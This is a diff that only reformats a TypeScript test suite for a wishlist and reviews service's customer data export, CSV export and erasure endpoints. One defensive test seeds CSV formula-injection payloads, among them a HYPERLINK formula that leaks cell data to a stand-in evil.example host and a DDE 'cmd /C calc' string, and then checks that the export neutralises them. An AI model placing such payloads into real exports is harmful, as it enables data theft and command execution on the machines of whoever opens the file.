@@ -9,7 +9,19 @@ let admin: string
 const A = '7001' // the customer whose data is requested and erased
 const B = '7002' // another customer, who must stay untouched
 const GUEST = 'guest-privacy-01'
-const HEADER = ['customer_id', 'wishlist_id', 'list_name', 'product_id', 'variant_id', 'handle', 'added_at', 'note', 'purchased_at', 'quantity', 'priority']
+const HEADER = [
+  'customer_id',
+  'wishlist_id',
+  'list_name',
+  'product_id',
+  'variant_id',
+  'handle',
+  'added_at',
+  'note',
+  'purchased_at',
+  'quantity',
+  'priority',
+]
 const TRICKY_LIST = 'Gifts, "big" ones\r\nand more'
 const TRICKY_HANDLE = 'shoe, "red"\nlimited'
 
@@ -21,7 +33,14 @@ const order = async (event: Record<string, unknown>) => {
   const res = await t.call('POST', '/v1/events', { token: admin, body: { events: [{ type: 'order.created', ...event }] } })
   expect(res.status).toBe(200)
 }
-const reviewBody = (over: Record<string, unknown>) => ({ productId: '501', customerName: 'Ann Example', rating: 4, title: 'Nice', body: 'Good shoe.', ...over })
+const reviewBody = (over: Record<string, unknown>) => ({
+  productId: '501',
+  customerName: 'Ann Example',
+  rating: 4,
+  title: 'Nice',
+  body: 'Good shoe.',
+  ...over,
+})
 
 let shareA: string
 let shareB: string
@@ -32,15 +51,30 @@ let reviewB: number
 async function seedCustomer(customer: string, email: string): Promise<{ share: string; review: number }> {
   const token = await shop.customerToken(customer)
   const auth = { token }
-  expect((await t.call('POST', `/v1/wishlists/${customer}/items`, { ...auth, body: { product_id: '501', handle: TRICKY_HANDLE, metadata: { size: 'M' } } })).status).toBe(201)
-  expect((await t.call('POST', `/v1/wishlists/${customer}/items`, { ...auth, body: { product_id: '502', variant_id: '5021' } })).status).toBe(201)
+  expect(
+    (
+      await t.call('POST', `/v1/wishlists/${customer}/items`, {
+        ...auth,
+        body: { product_id: '501', handle: TRICKY_HANDLE, metadata: { size: 'M' } },
+      })
+    ).status,
+  ).toBe(201)
+  expect(
+    (await t.call('POST', `/v1/wishlists/${customer}/items`, { ...auth, body: { product_id: '502', variant_id: '5021' } })).status,
+  ).toBe(201)
   const list = await t.call('POST', `/v1/wishlists/${customer}/lists`, { ...auth, body: { name: TRICKY_LIST } })
   expect(list.status).toBe(201)
   const listId = list.body.data.wishlist.wishlistId as string
-  expect((await t.call('POST', `/v1/wishlists/${customer}/items?wishlist_id=${listId}`, { ...auth, body: { product_id: '503' } })).status).toBe(201)
+  expect(
+    (await t.call('POST', `/v1/wishlists/${customer}/items?wishlist_id=${listId}`, { ...auth, body: { product_id: '503' } })).status,
+  ).toBe(201)
   const share = await t.call('GET', `/v1/wishlists/${customer}/share`, auth)
   expect(share.status).toBe(200)
-  const rv = await t.call('POST', '/api/v1/reviews', { token, headers: { 'x-storefront-key': shop.storefrontKey }, body: reviewBody({ customerEmail: email }) })
+  const rv = await t.call('POST', '/api/v1/reviews', {
+    token,
+    headers: { 'x-storefront-key': shop.storefrontKey },
+    body: reviewBody({ customerEmail: email }),
+  })
   expect(rv.status).toBe(201)
   return { share: (share.body.data.share_url as string).split('/').pop() as string, review: rv.body.id as number }
 }
@@ -57,16 +91,36 @@ beforeAll(async () => {
   ;({ share: shareA, review: reviewA } = await seedCustomer(A, 'ann@example.com'))
   ;({ share: shareB, review: reviewB } = await seedCustomer(B, 'bob@example.com'))
   // A review by an address nothing ties to A (only `email=` attributes it).
-  const loose = await t.call('POST', '/api/v1/reviews', { headers: { 'x-storefront-key': shop.storefrontKey }, body: reviewBody({ productId: '777', customerEmail: 'ann.private@example.com' }) })
+  const loose = await t.call('POST', '/api/v1/reviews', {
+    headers: { 'x-storefront-key': shop.storefrontKey },
+    body: reviewBody({ productId: '777', customerEmail: 'ann.private@example.com' }),
+  })
   reviewAEmailOnly = loose.body.id as number
   // A votes B's review helpful; B votes A's.
-  expect((await t.call('PUT', `/api/v1/reviews/${reviewB}/helpful`, { token: await shop.customerToken(A), headers: { 'x-storefront-key': shop.storefrontKey } })).status).toBe(200)
-  expect((await t.call('PUT', `/api/v1/reviews/${reviewA}/helpful`, { token: await shop.customerToken(B), headers: { 'x-storefront-key': shop.storefrontKey } })).status).toBe(200)
+  expect(
+    (
+      await t.call('PUT', `/api/v1/reviews/${reviewB}/helpful`, {
+        token: await shop.customerToken(A),
+        headers: { 'x-storefront-key': shop.storefrontKey },
+      })
+    ).status,
+  ).toBe(200)
+  expect(
+    (
+      await t.call('PUT', `/api/v1/reviews/${reviewA}/helpful`, {
+        token: await shop.customerToken(B),
+        headers: { 'x-storefront-key': shop.storefrontKey },
+      })
+    ).status,
+  ).toBe(200)
   // An order of A under a second address: that address is A's too (an order proves it). Each order invites a review.
   await order({ order_id: '9001', customer_id: A, email: 'ann.orders@example.com', line_items: [{ product_id: '501' }] })
   await order({ order_id: '9002', customer_id: B, line_items: [{ product_id: '502' }] })
   // A guest's item (guests are not customers: empty customer_id in the CSV).
-  expect((await t.call('POST', `/v1/wishlists/${GUEST}/items`, { headers: shop.guest(GUEST), body: { product_id: '504', handle: 'plain' } })).status).toBe(201)
+  expect(
+    (await t.call('POST', `/v1/wishlists/${GUEST}/items`, { headers: shop.guest(GUEST), body: { product_id: '504', handle: 'plain' } }))
+      .status,
+  ).toBe(201)
 })
 afterAll(() => t.close())
 
@@ -86,15 +140,57 @@ describe('GET /v1/admin/customers/{customerId}/export', () => {
     expect(def.items).toEqual(
       expect.arrayContaining([
         // 501 was bought by A's order.
-        { productId: '501', variantId: '5010', handle: TRICKY_HANDLE, metadata: { size: 'M' }, addedAt: expect.any(String), quantity: 1, note: null, priority: 'normal', purchasedAt: expect.any(String) },
-        { productId: '502', variantId: '5021', handle: null, metadata: null, addedAt: expect.any(String), quantity: 1, note: null, priority: 'normal', purchasedAt: null },
+        {
+          productId: '501',
+          variantId: '5010',
+          handle: TRICKY_HANDLE,
+          metadata: { size: 'M' },
+          addedAt: expect.any(String),
+          quantity: 1,
+          note: null,
+          priority: 'normal',
+          purchasedAt: expect.any(String),
+        },
+        {
+          productId: '502',
+          variantId: '5021',
+          handle: null,
+          metadata: null,
+          addedAt: expect.any(String),
+          quantity: 1,
+          note: null,
+          priority: 'normal',
+          purchasedAt: null,
+        },
       ]),
     )
-    expect(named).toMatchObject({ wishlistId: expect.stringMatching(/^wl_/), itemCount: 1, items: [{ productId: '503' }], createdAt: expect.any(String), updatedAt: expect.any(String) })
+    expect(named).toMatchObject({
+      wishlistId: expect.stringMatching(/^wl_/),
+      itemCount: 1,
+      items: [{ productId: '503' }],
+      createdAt: expect.any(String),
+      updatedAt: expect.any(String),
+    })
     expect(doc.shareLinks).toEqual([
-      { token: shareA, shareUrl: `http://wishlist.test/v1/wishlists/shared/${shareA}`, wishlistId: 'default', createdAt: expect.any(String), expiresAt: expect.any(String), revokedAt: null },
+      {
+        token: shareA,
+        shareUrl: `http://wishlist.test/v1/wishlists/shared/${shareA}`,
+        wishlistId: 'default',
+        createdAt: expect.any(String),
+        expiresAt: expect.any(String),
+        revokedAt: null,
+      },
     ])
-    expect(doc.reviews).toEqual([expect.objectContaining({ id: reviewA, customerEmail: 'ann@example.com', customerName: 'Ann Example', customerId: A, status: 'approved', helpfulCount: 1 })])
+    expect(doc.reviews).toEqual([
+      expect.objectContaining({
+        id: reviewA,
+        customerEmail: 'ann@example.com',
+        customerName: 'Ann Example',
+        customerId: A,
+        status: 'approved',
+        helpfulCount: 1,
+      }),
+    ])
     expect(doc.helpfulVotes).toEqual([{ reviewId: reviewB, createdAt: expect.any(String) }])
     // One record per buyer identity the order named (customer A and the e-mail), told apart.
     expect(doc.purchases).toEqual([
@@ -177,7 +273,9 @@ describe('GET /v1/admin/export/wishlists.csv', () => {
     expect(ofA.find((r) => r[3] === '503')?.[2]).toBe(TRICKY_LIST)
     expect(ofA.find((r) => r[3] === '502')?.slice(4, 6)).toEqual(['5021', ''])
     // Guests are not customers: their rows carry an empty customer_id.
-    expect(rows.filter((r) => r[3] === '504')).toEqual([['', 'default', 'My Wishlist', '504', '', 'plain', expect.any(String), '', '', '1', 'normal']])
+    expect(rows.filter((r) => r[3] === '504')).toEqual([
+      ['', 'default', 'My Wishlist', '504', '', 'plain', expect.any(String), '', '', '1', 'normal'],
+    ])
   })
 
   it('streams thousands of rows across batches, each item once, other shops excluded', async () => {
@@ -185,10 +283,33 @@ describe('GET /v1/admin/export/wishlists.csv', () => {
     const other = await t.createShop('starter')
     const at = Date.now()
     const rows = []
-    for (let c = 0; c < 3; c++) for (let p = 0; p < 1_200; p++) rows.push({ shop_id: big.id, owner_type: 'customer' as const, owner_id: String(900 + c), list_id: 'default', product_id: String(p), variant_id: null, handle: p % 7 === 0 ? `h,${p}` : null, metadata: null, added_at: at + p })
-    for (let i = 0; i < rows.length; i += 400) await t.storage.db.insertInto('wishlist_items').values(rows.slice(i, i + 400)).execute()
-    await t.storage.db.insertInto('wishlist_items').values({ ...rows[0]!, shop_id: other.id }).execute()
-    const res = await t.inject({ method: 'GET', url: '/v1/admin/export/wishlists.csv', headers: { authorization: `Bearer ${await big.adminToken()}` } })
+    for (let c = 0; c < 3; c++)
+      for (let p = 0; p < 1_200; p++)
+        rows.push({
+          shop_id: big.id,
+          owner_type: 'customer' as const,
+          owner_id: String(900 + c),
+          list_id: 'default',
+          product_id: String(p),
+          variant_id: null,
+          handle: p % 7 === 0 ? `h,${p}` : null,
+          metadata: null,
+          added_at: at + p,
+        })
+    for (let i = 0; i < rows.length; i += 400)
+      await t.storage.db
+        .insertInto('wishlist_items')
+        .values(rows.slice(i, i + 400))
+        .execute()
+    await t.storage.db
+      .insertInto('wishlist_items')
+      .values({ ...rows[0]!, shop_id: other.id })
+      .execute()
+    const res = await t.inject({
+      method: 'GET',
+      url: '/v1/admin/export/wishlists.csv',
+      headers: { authorization: `Bearer ${await big.adminToken()}` },
+    })
     const [, ...parsed] = parseCsv(res.body)
     expect(parsed).toHaveLength(3_600)
     expect(new Set(parsed.map((r) => `${r[0]}/${r[3]}`)).size).toBe(3_600)
@@ -199,11 +320,28 @@ describe('GET /v1/admin/export/wishlists.csv', () => {
     const victim = await t.createShop('growth', { multi_wishlist_enabled: true })
     const guest = victim.guest('g_formula-guest-0001')
     const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
-    expect((await t.call('POST', '/v1/wishlists/g_formula-guest-0001/items', { headers: guest, body: { product_id: '901', handle: formula } })).status).toBe(201)
-    const list = await t.call('POST', '/v1/wishlists/g_formula-guest-0001/lists', { headers: guest, body: { name: '@SUM(1+1)*cmd|" /C calc"!A0' } })
+    expect(
+      (await t.call('POST', '/v1/wishlists/g_formula-guest-0001/items', { headers: guest, body: { product_id: '901', handle: formula } }))
+        .status,
+    ).toBe(201)
+    const list = await t.call('POST', '/v1/wishlists/g_formula-guest-0001/lists', {
+      headers: guest,
+      body: { name: '@SUM(1+1)*cmd|" /C calc"!A0' },
+    })
     expect(list.status).toBe(201)
-    expect((await t.call('POST', `/v1/wishlists/g_formula-guest-0001/items?wishlist_id=${list.body.data.wishlist.wishlistId}`, { headers: guest, body: { product_id: '902', handle: '-2+3' } })).status).toBe(201)
-    const res = await t.inject({ method: 'GET', url: '/v1/admin/export/wishlists.csv', headers: { authorization: `Bearer ${await victim.adminToken()}` } })
+    expect(
+      (
+        await t.call('POST', `/v1/wishlists/g_formula-guest-0001/items?wishlist_id=${list.body.data.wishlist.wishlistId}`, {
+          headers: guest,
+          body: { product_id: '902', handle: '-2+3' },
+        })
+      ).status,
+    ).toBe(201)
+    const res = await t.inject({
+      method: 'GET',
+      url: '/v1/admin/export/wishlists.csv',
+      headers: { authorization: `Bearer ${await victim.adminToken()}` },
+    })
     expect(res.statusCode).toBe(200)
     // No cell of the file starts with a formula character, whatever a spreadsheet's parser does with quotes.
     expect(res.body).not.toMatch(/(^|,|\r\n)"?[=+\-@\t\r]/)
@@ -219,7 +357,11 @@ describe('GET /v1/admin/export/wishlists.csv', () => {
 
   it('is just the header for a shop without items', async () => {
     const empty = await t.createShop('free')
-    const res = await t.inject({ method: 'GET', url: '/v1/admin/export/wishlists.csv', headers: { authorization: `Bearer ${await empty.adminToken()}` } })
+    const res = await t.inject({
+      method: 'GET',
+      url: '/v1/admin/export/wishlists.csv',
+      headers: { authorization: `Bearer ${await empty.adminToken()}` },
+    })
     expect(res.statusCode).toBe(200)
     expect(res.body).toBe(`${HEADER.join(',')}\r\n`)
   })
@@ -238,14 +380,31 @@ describe('DELETE /v1/admin/customers/{customerId}', () => {
     const top = await t.call('GET', '/v1/analytics/product/501', { token: admin })
     expect(top.body.data.wishlistCount).toBe(2) // A and B hold it
     bBefore = (await exportOf(B)).body.data
-    summaryBefore = (await t.call('GET', '/api/v1/products/501/reviews/summary', { headers: { 'x-storefront-key': shop.storefrontKey } })).body
-    factsBefore = (await t.storage.db.selectFrom('analytics_events').select((eb) => eb.fn.countAll<number>().as('n')).where('shop_id', '=', shop.id).executeTakeFirstOrThrow()).n
+    summaryBefore = (await t.call('GET', '/api/v1/products/501/reviews/summary', { headers: { 'x-storefront-key': shop.storefrontKey } }))
+      .body
+    factsBefore = (
+      await t.storage.db
+        .selectFrom('analytics_events')
+        .select((eb) => eb.fn.countAll<number>().as('n'))
+        .where('shop_id', '=', shop.id)
+        .executeTakeFirstOrThrow()
+    ).n
 
     const res = await erase(A, '?email=ann.private@example.com')
     expect(res.status).toBe(200)
     expect(res.body).toEqual({
       ok: true,
-      data: { wishlists: 2, items: 3, shareLinks: 1, reviewsAnonymized: 2, helpfulVotes: 1, purchases: 2, reviewInvitations: 1, analyticsEventsPseudonymized: expect.any(Number), webhookDeliveries: 0 },
+      data: {
+        wishlists: 2,
+        items: 3,
+        shareLinks: 1,
+        reviewsAnonymized: 2,
+        helpfulVotes: 1,
+        purchases: 2,
+        reviewInvitations: 1,
+        analyticsEventsPseudonymized: expect.any(Number),
+        webhookDeliveries: 0,
+      },
     })
     expect(res.body.data.analyticsEventsPseudonymized).toBeGreaterThanOrEqual(4)
   })
@@ -270,13 +429,34 @@ describe('DELETE /v1/admin/customers/{customerId}', () => {
     expect(summary.body).toEqual(summaryBefore)
 
     const doc = (await exportOf(A, '?email=ann.private@example.com')).body.data
-    expect(doc).toMatchObject({ emails: ['ann.private@example.com'], wishlistOwner: null, lists: [], shareLinks: [], reviews: [], helpfulVotes: [], purchases: [], reviewInvitations: [], analyticsEvents: [] })
-    const rawIds = await t.storage.db.selectFrom('analytics_events').select('owner_id').where('shop_id', '=', shop.id).where('owner_id', '=', A).execute()
+    expect(doc).toMatchObject({
+      emails: ['ann.private@example.com'],
+      wishlistOwner: null,
+      lists: [],
+      shareLinks: [],
+      reviews: [],
+      helpfulVotes: [],
+      purchases: [],
+      reviewInvitations: [],
+      analyticsEvents: [],
+    })
+    const rawIds = await t.storage.db
+      .selectFrom('analytics_events')
+      .select('owner_id')
+      .where('shop_id', '=', shop.id)
+      .where('owner_id', '=', A)
+      .execute()
     expect(rawIds).toEqual([])
   })
 
   it('keeps analytics counts and leaves other customers untouched', async () => {
-    const facts = (await t.storage.db.selectFrom('analytics_events').select((eb) => eb.fn.countAll<number>().as('n')).where('shop_id', '=', shop.id).executeTakeFirstOrThrow()).n
+    const facts = (
+      await t.storage.db
+        .selectFrom('analytics_events')
+        .select((eb) => eb.fn.countAll<number>().as('n'))
+        .where('shop_id', '=', shop.id)
+        .executeTakeFirstOrThrow()
+    ).n
     expect(Number(facts)).toBe(Number(factsBefore))
     // Rollups keep their counts (adds, removes, shoppers, conversion)…
     expect((await t.call('GET', '/v1/analytics/overview?period=all', { token: admin })).body.data).toEqual(overviewBefore)
@@ -296,7 +476,17 @@ describe('DELETE /v1/admin/customers/{customerId}', () => {
   it('is harmless the second time (zeros)', async () => {
     const res = await erase(A, '?email=ann.private@example.com')
     expect(res.status).toBe(200)
-    expect(res.body.data).toEqual({ wishlists: 0, items: 0, shareLinks: 0, reviewsAnonymized: 0, helpfulVotes: 0, purchases: 0, reviewInvitations: 0, analyticsEventsPseudonymized: 0, webhookDeliveries: 0 })
+    expect(res.body.data).toEqual({
+      wishlists: 0,
+      items: 0,
+      shareLinks: 0,
+      reviewsAnonymized: 0,
+      helpfulVotes: 0,
+      purchases: 0,
+      reviewInvitations: 0,
+      analyticsEventsPseudonymized: 0,
+      webhookDeliveries: 0,
+    })
   })
 
   it('lets the customer start afresh afterwards', async () => {
@@ -306,16 +496,20 @@ describe('DELETE /v1/admin/customers/{customerId}', () => {
   })
 })
 
-describe('a customer cannot reach another customer\'s data through an e-mail typed into a review', () => {
+describe("a customer cannot reach another customer's data through an e-mail typed into a review", () => {
   const ATTACKER = '301'
   const VICTIM = '302'
   const VICTIM_EMAIL = 'victim@example.com'
 
-  it('keeps the victim\'s e-mail, purchases, invitations and reviews out of the attacker\'s export and erasure', async () => {
+  it("keeps the victim's e-mail, purchases, invitations and reviews out of the attacker's export and erasure", async () => {
     // The victim: an order (purchase and invitation) and a review with their own token.
     await order({ order_id: '9301', customer_id: VICTIM, email: VICTIM_EMAIL, line_items: [{ product_id: '601' }] })
     const victimToken = await shop.customerToken(VICTIM)
-    const victimReview = await t.call('POST', '/api/v1/reviews', { token: victimToken, headers: { 'x-storefront-key': shop.storefrontKey }, body: reviewBody({ productId: '601', customerEmail: VICTIM_EMAIL }) })
+    const victimReview = await t.call('POST', '/api/v1/reviews', {
+      token: victimToken,
+      headers: { 'x-storefront-key': shop.storefrontKey },
+      body: reviewBody({ productId: '601', customerEmail: VICTIM_EMAIL }),
+    })
     expect(victimReview.status).toBe(201)
     const victimBefore = (await exportOf(VICTIM)).body.data
     expect(victimBefore.purchases).toHaveLength(2)
@@ -323,7 +517,11 @@ describe('a customer cannot reach another customer\'s data through an e-mail typ
 
     // The attack: customer 301, with only their own token, types the victim's address.
     const attackerToken = await shop.customerToken(ATTACKER)
-    const typed = await t.call('POST', '/api/v1/reviews', { token: attackerToken, headers: { 'x-storefront-key': shop.storefrontKey }, body: reviewBody({ productId: '602', customerEmail: VICTIM_EMAIL }) })
+    const typed = await t.call('POST', '/api/v1/reviews', {
+      token: attackerToken,
+      headers: { 'x-storefront-key': shop.storefrontKey },
+      body: reviewBody({ productId: '602', customerEmail: VICTIM_EMAIL }),
+    })
     expect(typed.status).toBe(201)
 
     const doc = (await exportOf(ATTACKER)).body.data
@@ -338,6 +536,11 @@ describe('a customer cannot reach another customer\'s data through an e-mail typ
     const victimAfter = (await exportOf(VICTIM)).body.data
     expect({ ...victimAfter, generatedAt: null }).toEqual({ ...victimBefore, generatedAt: null })
     const review = await t.call('GET', `/api/v1/reviews/${victimReview.body.id}`, { token: admin })
-    expect(review.body).toMatchObject({ customerName: 'Ann Example', customerEmail: VICTIM_EMAIL, customerId: VICTIM, verifiedPurchase: true })
+    expect(review.body).toMatchObject({
+      customerName: 'Ann Example',
+      customerEmail: VICTIM_EMAIL,
+      customerId: VICTIM,
+      verifiedPurchase: true,
+    })
   })
 })
